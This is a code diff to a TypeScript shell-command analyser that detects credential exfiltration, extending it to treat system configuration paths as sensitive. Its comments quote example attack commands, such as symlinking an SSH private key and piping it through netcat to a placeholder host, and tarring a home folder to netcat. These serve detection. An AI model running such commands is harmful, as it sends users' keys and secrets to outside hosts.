@@ -19,7 +19,7 @@ import { UPLOAD_COMMANDS } from '../programs/rows/network';
 import type { Form } from '../programs/row';
 import { hardlineFinding, type HardlineFinding } from './arms';
 import { commandName, literalText } from './commandName';
-import { credentialKind, homeHolderAtWorst, homeStateAtWorst, isNetworkDevicePath, namesCloudMetadata, wordPathText } from './paths';
+import { credentialKind, homeHolderAtWorst, homeStateAtWorst, isNetworkDevicePath, namesCloudMetadata, systemStateAtWorst, wordPathText } from './paths';
 import { containerRun, landingPaths, placeInFolder, type PathPlace } from '../programs/pathResolver';
 import { workingFolderOf } from '../programs/writeTargets';
 import { readTextCommands } from './textCommands';
@@ -320,7 +320,7 @@ function sentWords(reading: SinkReading, args: readonly Word[], skipAuth = false
  * deduplicated) first: a path met twice gives the same answer twice, so the first hit is the
  * same, and the usual word (no credential) costs no list.
  */
-function credentialInWord(word: Word, place: PathPlace, atWorst = false, whole = atWorst): string | null {
+function credentialInWord(word: Word, place: PathPlace, atWorst: AtWorst = false, whole = atWorst !== false): string | null {
   const text = wordPathText(word);
   if (text === '' || text.includes('://')) return null;
   // Command text (`lftp -e 'put ~/.pgpass; bye'`, `smbclient -c 'put …'`, an awk program's
@@ -348,6 +348,11 @@ function credentialInWord(word: Word, place: PathPlace, atWorst = false, whole =
   return credentialAt(upTo(text, ','), place, atWorst, whole);
 }
 
+/** Whether an absolute path is the folder or below it. */
+function isInside(path: string, folder: string): boolean {
+  return path === folder || path.startsWith(folder.endsWith('/') ? folder : `${folder}/`);
+}
+
 /** Longest word read as command text for the credentials it names. */
 const MAX_COMMAND_TEXT = 4096;
 
@@ -362,17 +367,19 @@ function upTo(text: string, separator: string): string {
  * `.env` is one wherever it is), then where it lands: in each folder the command may run in, and
  * through the links made on the line or found on disk (`ln -s ~/.ssh/id_rsa k; cat k | nc h 1`).
  */
-function credentialAt(candidate: string, place: PathPlace, atWorst: boolean, whole = atWorst): string | null {
+function credentialAt(candidate: string, place: PathPlace, atWorst: AtWorst, whole = atWorst !== false): string | null {
   const path = upTo(candidate, ';');
   // `-` is standard input or output, no file (`-d @-`, `-T -`).
   if (path === '' || path === '-') return null;
   // An option word (`-d`) or a file reference (`@-`, read after the `@`) is no path of its own.
-  const worst = atWorst && !/^[-@]/.test(path);
+  const worst = atWorst !== false && !/^[-@]/.test(path);
   const holder = worst && whole;
   // At its worst a whole home (or a folder holding homes) goes with its keys: `updog -d ~`, `cd ~ &&
   // python3 -m http.server`, `tar czf - -C ~ . | nc` (docs/decisions.md "A home sent whole, a
   // credential published with the workspace").
-  const kind = credentialKind(path, place.home) ?? (worst ? homeStateAtWorst(path, place.home) : null) ?? (holder ? homeHolderAtWorst(path, place.home) : null);
+  // The system's configuration at its worst: an absolute path as written, outside the folders the command runs in.
+  const system = worst && atWorst === true && !place.folders.some((folder) => isInside(path, folder)) ? systemStateAtWorst(path, place.home) : null;
+  const kind = credentialKind(path, place.home) ?? (worst ? homeStateAtWorst(path, place.home) : null) ?? system ?? (holder ? homeHolderAtWorst(path, place.home) : null);
   if (kind !== null) return `${kind} (${path})`;
   for (const landed of landingPaths(path, place, true, true).paths) {
     const there = credentialKind(landed, place.home) ?? (worst ? homeStateAtWorst(landed, place.home) : null) ?? (holder ? homeHolderAtWorst(landed, place.home) : null);
@@ -399,12 +406,17 @@ function workingFolderWords(options: readonly string[], argv: readonly Word[]): 
 }
 
 /**
- * The first credential named by `words[from…]`; `atWorst`: a home's configuration and state
- * count too (the words' content leaves: {@link homeStateAtWorst}).
+ * How far a path's content is taken at its worst where it leaves: `true`, a home's configuration
+ * and state ({@link homeStateAtWorst}) and the system's ({@link systemStateAtWorst}) are
+ * credentials; `'home'`, only the home's: a word a program without a row is only guessed to send
+ * (`landrun --ro /etc …` lets a sandboxed program read it); `false`, neither.
  */
-function credentialIn(words: readonly Word[], from: number, place: PathPlace, atWorst = false, notWhole: ReadonlySet<number> = NONE): string | null {
+type AtWorst = boolean | 'home';
+
+/** The first credential named by `words[from…]`, read {@link AtWorst} as asked. */
+function credentialIn(words: readonly Word[], from: number, place: PathPlace, atWorst: AtWorst = false, notWhole: ReadonlySet<number> = NONE): string | null {
   for (let k = from; k < words.length; k++) {
-    const found = credentialInWord(words[k]!, place, atWorst, atWorst && !notWhole.has(k));
+    const found = credentialInWord(words[k]!, place, atWorst, atWorst !== false && !notWhole.has(k));
     if (found !== null) return found;
   }
   return null;
@@ -457,12 +469,16 @@ function sourceOf(command: PipelineCommand, flows = false): string | null {
   // in with, a folder it downloads into) are not sent.
   const uploads = uploadForms(command.record.inside);
   if (uploads.length > 0) return credentialIn(uploads.flatMap((form) => (form.value === null ? [] : [form.value])), 0, place, true);
-  if (networkCapable(command.record.inside)?.ownWords === false) return null;
+  const capable = networkCapable(command.record.inside);
+  if (capable?.ownWords === false) return null;
   // Relative paths are read where the program's own working-folder option moves it (`tar cz -C ~
   // .subversion/auth`).
   const row = rowFor(name);
   const moved = row?.workingFolder === undefined ? place : placeInFolder(place, workingFolderOf(row, argv));
-  return credentialIn(argv, 1, moved, flows, row?.workingFolder === undefined ? NONE : workingFolderWords(row.workingFolder, argv));
+  // A program no row places is only guessed to send its own words, and a lister prints the names
+  // of what it is given, not their content: the home's state at worst, not the system's.
+  const worst: AtWorst = flows && ((capable !== null && isUnplaced(command.record)) || row?.printsPaths !== undefined) ? 'home' : flows;
+  return credentialIn(argv, 1, moved, worst, row?.workingFolder === undefined ? NONE : workingFolderWords(row.workingFolder, argv));
 }
 
 /**
@@ -545,7 +561,7 @@ function handedToUnplaced(pipeline: readonly PipelineCommand[], home: string): H
     const paths = (list: readonly Word[]): Word[] => list.filter((word) => !(word.raw.includes('$(') || word.raw.includes('`')));
     // A cloud client's row places its operands (an upload, a download): only the files its `file://` parameters read are sent.
     const named = unplaced
-      ? (credentialIn(paths(words.sent), 0, command.place, true) ?? credentialIn(paths(words.other), 0, command.place))
+      ? (credentialIn(paths(words.sent), 0, command.place, 'home') ?? credentialIn(paths(words.other), 0, command.place))
       : credentialIn(fileUrlWords(argv), 0, command.place, true);
     if (named !== null) return hardlineFinding('credential-exfiltration', `${named} goes to ${what}`);
     // Programs without a row are common and their words may nest substitutions deeply (each level
